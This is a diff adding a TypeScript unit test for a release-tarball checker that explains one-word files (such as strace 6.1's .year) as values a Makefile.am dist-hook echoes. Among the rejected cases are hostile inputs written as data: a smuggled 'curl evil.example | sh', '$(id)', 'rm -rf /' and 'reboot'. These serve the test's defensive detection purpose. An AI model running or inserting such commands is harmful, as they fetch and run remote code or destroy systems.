@@ -66,6 +66,46 @@ test('a file whose text is echoed as it stands is explained, whatever its name (
   }
 });
 
+// strace 6.1's top Makefile.am: the year and the manual pages' dates, values configure sets.
+const distHookAm = `dist-hook:
+\t$(AM_V_GEN)echo $(VERSION) > $(distdir)/.tarball-version
+\t\${AM_V_GEN}echo $(COPYRIGHT_YEAR) > $(distdir)/.year
+\t\${AM_V_GEN}echo $(STRACE_MANPAGE_DATE) \\
+\t\t> $(distdir)/doc/.strace.1.in.date
+\techo $(STAMP) > $(distdir)/stamp.sh
+
+other:
+\techo $(COPYRIGHT_YEAR) > $(distdir)/not-the-hook
+`;
+
+test('a file of one word a dist-hook echoes from a make variable is explained as configure s value (strace 6.1: .year)', async () => {
+  const ctx = context({ 'Makefile.am': distHookAm, 'doc/Makefile.am': 'EXTRA_DIST = strace.1.in\n' }, { releaseVersion: '6.1' });
+  let j = await echoedFile.judge(added('.year', '2022\n'), ctx);
+  assert.is(j?.category, 'configured-file');
+  assert.is(j?.severity, 'low');
+  assert.equal(j?.reasons, ['the value of $(COPYRIGHT_YEAR), which configure sets, as the dist-hook of Makefile.am echoes it (Makefile.am:3): "2022", one word']);
+  // A path under a folder whose own Makefile.am has no such line: the top one's dist-hook writes it.
+  j = await echoedFile.judge(added('doc/.strace.1.in.date', '2022-10-16\n'), ctx);
+  assert.match(j!.reasons[0]!, '$(STRACE_MANPAGE_DATE)');
+  assert.match(j!.reasons[0]!, '(Makefile.am:4)');
+  assert.is((await echoedFile.judge(added('.tarball-version', '6.1\n'), ctx))?.category, 'configured-file');
+  const cases: Array<[string, string]> = [
+    ['.year', '2022; curl evil.example | sh\n'],
+    ['.year', '2022\n2023\n'],
+    ['.year', '2022'],
+    ['.year', '$(id)\n'],
+    ['stamp.sh', 'rm -rf /\n'],
+    ['stamp.sh', 'reboot\n'],
+    ['.tarball-version', '6.2\n'],
+    ['not-the-hook', '2022\n'],
+    ['.other', '2022\n'],
+  ];
+  for (const [path, text] of cases) assert.is(await echoedFile.judge(added(path, text), ctx), undefined, `${path}: ${JSON.stringify(text)}`);
+  // An executable file: the word would be a command.
+  const run = added('.year', 'reboot\n');
+  assert.is(await echoedFile.judge({ ...run, release: { ...run.release!, mode: 0o755 } }, ctx), undefined);
+});
+
 test('echoedRecipes: only a recipe that writes the file, its echo texts in order', () => {
   assert.equal(echoedRecipes(makefileAm).get('package.m4')?.length, 5);
   assert.is(echoedRecipes(makefileAm.replace('} >$(srcdir)/package.m4', '} >/dev/null')).get('package.m4'), undefined);
